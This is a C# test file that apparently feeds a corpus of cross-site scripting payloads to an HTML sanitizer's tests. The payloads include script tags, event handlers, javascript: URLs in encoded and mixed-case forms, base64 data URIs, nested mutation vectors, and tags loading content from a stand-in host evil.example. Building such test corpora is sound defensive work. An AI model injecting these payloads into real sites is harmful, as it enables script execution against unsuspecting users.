namespace CoSie.Platform.Tests.Content;

internal static class XssCorpus
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=\"1\"/></svg>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"&#106;avascript:alert(1)\">click</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)\">click</a>",
        "<a href=\" java\tscript:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<div style=\"background:url(javascript:alert(1))\">styled</div>",
        "<p style=\"width: expression(alert(1))\">old IE</p>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=\"q\"><button>Go</button></form>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<p onclick=\"alert(1)\" class=\"x\">handler</p>",
        "<a href=\"https://example.org\" onmouseover=\"alert(1)\" target=\"_blank\">link</a>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=\"https://example.org/a.png\" srcset=\"javascript:alert(1) 1x\">",
        "<p>unclosed <b>bold <i>italic <a href=\"javascript:alert(1)\">x",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<!--<img src=x onerror=alert(1)>-->",
        "<table><tr><td background=\"javascript:alert(1)\">cell</td></tr></table>",
        "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<textarea><script>alert(1)</script></textarea>",
    ];

    public static TheoryData<string> All()
    {
        var data = new TheoryData<string>();
        foreach (var payload in Payloads)
        {
            data.Add(payload);
        }

        return data;
    }
}
